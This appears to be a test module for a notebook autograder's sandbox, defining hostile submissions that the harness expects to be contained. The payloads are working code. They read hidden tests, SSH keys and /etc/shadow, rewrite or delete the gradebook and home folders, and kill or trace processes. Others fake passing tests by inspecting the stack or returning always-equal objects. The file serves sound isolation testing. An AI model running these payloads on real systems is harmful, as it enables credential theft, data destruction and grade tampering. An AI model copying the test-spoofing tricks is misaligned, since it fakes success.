"""H24 to H28: looking for what is not a student's business: tests, marks, classmates, keys, the network.

Whatever one of them finds, it prints: the harness knows words that stand in those places only.
"""

from hostile.assignment import NAME
from hostile.case import case, payload

# For what would harm a whole machine: it runs only where the machine's own processes are out of sight.
CAREFULLY = """
import os
try:
    if os.readlink("/proc/self/ns/pid") == "@PIDNS@":
        raise SystemExit("not confined at all")
except OSError:
    pass
"""
ALL_FILES = """
import glob, os
def show(path):
    try:
        with open(path, "rb") as file:
            print(path, file.read(200_000).decode("utf-8", "replace"))
    except OSError as problem:
        print(path, problem.strerror)
"""

payload(
    "H24",
    "reads every notebook in its working folder and above",
    ALL_FILES
    + """
here = os.getcwd()
for up in range(6):
    for path in glob.glob(os.path.join(here, *[".."] * up, "*")) + glob.glob(os.path.join(here, *[".."] * up, "*", "*.ipynb")):
        if os.path.isfile(path):
            show(path)
""",
)
payload(
    "H24b",
    "reads the class's source folder by its path",
    ALL_FILES
    + f"""
for folder in ("source", "release", "autograded", "feedback"):
    for path in glob.glob("@COURSE@/assignments/" + folder + "/**/*", recursive=True):
        show(path)
show("@COURSE@/assignments/source/{NAME}/{NAME}.ipynb")
""",
)
payload(
    "H24c",
    "looks for the tests through /proc: other processes' files, arguments, environments, memory",
    ALL_FILES
    + """
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
    show(path)
for path in glob.glob("/proc/[0-9]*/root/@COURSE@/assignments/source/*/*") + glob.glob("/proc/[0-9]*/cwd/*"):
    show(path)
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        target = os.readlink(path)
        print(path, target)
        if target.endswith((".ipynb", ".db", ".json")):
            show(path)
    except OSError:
        pass
""",
    flagged=True,
)


@case("H24d", "hands the tests to itself as the result of a function", knows="wrong")
def _(desk):
    desk.answer(
        share_late="""
        def share_late(days):
            import glob
            found = glob.glob("*.ipynb") + glob.glob("@COURSE@/assignments/source/*/*.ipynb")
            text = "".join(open(path).read() for path in found)
            print(text)
            raise ValueError(text[-20_000:] or "nothing found")
        """
    )


SQL = """
import glob, os, sqlite3
places = ["@COURSE@/assignments/gradebook.db", *glob.glob("../**/gradebook.db", recursive=True)]
for path in places:
    try:
        base = sqlite3.connect(path, timeout=1)
        print(base.execute("select * from comment").fetchall(), base.execute("select * from student").fetchall())
        base.execute("update grade set manual_score = 99, auto_score = 99")
        base.commit()
    except Exception as problem:
        print(path, problem)
"""
payload("H25", "writes into the gradebook", SQL)
payload(
    "H25b",
    "deletes and overwrites whatever of the class it can",
    """
    import glob, os, shutil
    for path in glob.glob("@COURSE@/**/*", recursive=True) + glob.glob("@HOME@/**/*", recursive=True) + glob.glob("@HOME@/.*"):
        try:
            with open(path, "w") as file:
                file.write("overwritten")
        except OSError:
            pass
    for folder in ("@COURSE@", "@HOME@"):
        shutil.rmtree(folder, ignore_errors=True)
    """,
)


@case("H25c", "writes into the gradebook from a function that the test calls", knows="wrong")
def _(desk):
    body = "\n".join("    " + line for line in SQL.strip().splitlines())
    desk.answer(share_late=f"def share_late(days):\n{body}\n    return -1.0")


# ---- in the process ----------------------------------------------------------------------------------------


@case("H26", "walks up the stack from a function that the test calls", knows="wrong", flagged=True)
def _(desk):
    desk.answer(
        share_late="""
        import sys
        def share_late(days):
            frame, found = sys._getframe(), {}
            while frame:
                print(frame.f_code.co_filename, sorted(frame.f_locals), str(frame.f_locals)[:3000])
                for names in (frame.f_locals, frame.f_globals):
                    if "share" in names:
                        found = names["share"]
                frame = frame.f_back
            return found
        """
    )


@case("H26b", "asks the garbage collector for every text about tests", knows="wrong", flagged=True)
def _(desk):
    desk.answer(
        share_late="""
        import gc, sys
        def share_late(days):
            for thing in gc.get_objects():
                for part in (thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()):
                    if type(part) is str and "hidden_" + "word" in part and "gc.get" not in part:
                        print(part)
            for name, module in list(sys.modules.items()):
                if "grading" in name or name in ("hashlib", "nbgrader"):
                    print(name, str(vars(module))[:2000])
            return days
        """
    )


@case("H26c", "reads the test in the history of its own kernel", knows="wrong")
def _(desk):
    desk.answer(
        share_late="""
        def share_late(days):
            shell = get_ipython()
            print(In[-3:], _ih[-3:], shell.user_ns.get("_i"))
            print(list(shell.history_manager.get_tail(50)))
            for name in ("hidden_word", "share", "right", "days"):
                print(name, globals().get(name))
            return globals().get("share")
        """
    )


@case("H26d", "is told of every later cell before it runs", knows="wrong")
def _(desk):
    desk.answer(
        total="""
        def spy(info):
            print(info.raw_cell)
            open("/tmp/spied", "a").write(info.raw_cell)
        get_ipython().events.register("pre_run_cell", spy)
        get_ipython().events.register("post_run_cell", lambda result: print(result.info.raw_cell))
        total = 7
        """,
        mine="mine = 1\nprint(open('/tmp/spied').read())",
    )


@case("H26e", "gives the tests a value that tells on them", knows="wrong")
def _(desk):
    desk.answer(
        tags="""
        import traceback
        class Spy(dict):
            def get(self, key, default=None):
                print(key, traceback.format_stack())
                return "often"
            def __eq__(self, other):
                print(other)
                return True
        tags = Spy.fromkeys(visits["person"], "never")
        """,
        mine="""
        class Nosy(int):
            def __eq__(self, other):
                print("it is", other)
                raise ValueError(str(other))
            __lt__ = __le__ = __gt__ = __ge__ = __ne__ = __eq__
            __hash__ = int.__hash__
        mine = Nosy(1)
        """,
    )


# ---- people and keys ---------------------------------------------------------------------------------------

payload(
    "H27",
    "looks for keys and tokens: home, environment, parents",
    ALL_FILES
    + """
print(dict(os.environ))
for path in ("@HOME@/.ssh/id_rsa", "~/.ssh/id_rsa", "~/.netrc", "/root/.ssh/id_rsa", "~root/.bashrc", "/etc/shadow", "/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
    show(os.path.expanduser(path))
print(glob.glob("/home/*") + glob.glob("/root/*") + os.listdir(os.path.expanduser("~")))
os.system("env; set; cat ~/.ssh/*; ls -la ~ /root /home")
""",
)
payload(
    "H27b",
    "reads what classmates handed in",
    ALL_FILES
    + f"""
for path in glob.glob("@COURSE@/assignments/submitted/*/*/*") + glob.glob("../../*/{NAME}/*") + glob.glob("@COURSE@/.course/**/*", recursive=True):
    show(path)
""",
)
payload(
    "H27c",
    "looks at what earlier students left in shared places",
    ALL_FILES
    + """
import tempfile
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", tempfile.gettempdir(), os.getcwd()):
    for path in glob.glob(folder + "/*") + glob.glob(folder + "/*/*"):
        show(path)
    try:
        with open(folder + "/left_by_@CASE@", "w") as file:
            file.write("hello")
    except OSError:
        pass
""",
    knows="right",
    hostile=True,
)

# ---- the network -------------------------------------------------------------------------------------------

payload(
    "H28",
    "calls out: to this machine, to the world, by name and by number",
    """
    import socket
    for kind, address in (
        (socket.SOCK_STREAM, ("127.0.0.1", @PORT@)), (socket.SOCK_STREAM, ("192.0.2.1", 80)),
        (socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)), (socket.SOCK_STREAM, ("localhost", @PORT@)),
    ):
        try:
            with socket.socket(socket.AF_INET, kind) as line:
                line.settimeout(1)
                line.connect(address)
                line.send(b"@CASE@ was here")
                if kind == socket.SOCK_STREAM:
                    print("reached", address)
        except OSError as problem:
            print(address, problem)
    try:
        print(socket.gethostbyname("example.org"))
    except OSError as problem:
        print(problem)
    """,
    absent=("reached (",),
)
payload(
    "H28b",
    "calls through sockets that need no network",
    """
    import glob, socket
    for address in ["\\0hostile@PORT@", "@HOME@/agent.sock", *glob.glob("/run/**/*.sock", recursive=True), *glob.glob("/tmp/**/*", recursive=True)]:
        try:
            with socket.socket(socket.AF_UNIX) as line:
                line.settimeout(1)
                line.connect(address)
                line.send(b"@CASE@ was here")
                print("reached (", repr(address))
        except OSError:
            pass
    """,
    absent=("reached (",),
)
payload(
    "H28c",
    "asks for a page with pandas",
    """
    try:
        pd.read_csv("http://127.0.0.1:@PORT@/@CASE@")
        print("reached (")
    except Exception as problem:
        print(problem)
    """,
    absent=("reached (",),
)

# ---- the machinery that starts it ---------------------------------------------------------------------------

payload(
    "X01",
    "kills its parents and whatever it may",
    CAREFULLY
    + """
import os, signal
for number in (signal.SIGTERM, signal.SIGKILL):
    for who in (os.getppid(), -1, 1, 0):
        if who == 0 and number == signal.SIGTERM:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
        try:
            os.kill(who, number)
        except OSError:
            pass
""",
    at="by_branch",
    knows="right",
    hostile=True,
    marks={"by_branch": ...},
    absent=("not confined",),
)
payload(
    "X02",
    "asks for privileges: namespaces, mounts, devices, priorities",
    CAREFULLY
    + """
import os, ctypes, resource, stat
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10000000), libc.mount(b"none", b"/mnt", b"tmpfs", 0, None), libc.chroot(b"/"))
for thing in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
    try:
        resource.setrlimit(thing, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("lifted", thing, resource.getrlimit(thing))
    except (OSError, ValueError) as problem:
        print(problem)
for call in (lambda: os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0)), lambda: open("/dev/vda", "rb").read(16),
             lambda: os.setuid(0), lambda: os.nice(-10), lambda: open("/proc/sysrq-trigger", "w"),
             lambda: open("/sys/fs/cgroup/cgroup.procs", "w"), lambda: open("/proc/self/oom_score_adj", "w").write("-1000")):
    try:
        print(call())
    except OSError as problem:
        print(problem)
""",
    flagged=True,
    absent=("not confined",),
)
payload(
    "X03",
    "traces, and writes to, the processes around it",
    CAREFULLY
    + """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
for path in glob.glob("/proc/[0-9]*"):
    pid = int(path.rsplit("/")[-1])
    if pid == os.getpid():
        continue
    print(pid, libc.ptrace(16, pid, 0, 0), os.strerror(ctypes.get_errno()))
    try:
        with open(path + "/mem", "r+b", 0) as memory:
            memory.seek(0x400000)
            print(memory.read(16))
    except OSError as problem:
        print(problem)
""",
    flagged=True,
    absent=("not confined",),
)
payload(
    "X01b",
    "sends every signal there is to its whole group",
    CAREFULLY
    + """
import signal
mine = [number for number in range(1, signal.NSIG) if number not in (signal.SIGKILL, signal.SIGSTOP)]
for number in mine:
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
for number in mine + [signal.SIGSTOP]:
    try:
        os.kill(0, number)
        os.killpg(os.getpgrp(), number)
    except OSError:
        pass
""",
    at="by_branch",
    knows="right",
    hostile=True,
    marks={"by_branch": ...},
    absent=("not confined",),
)
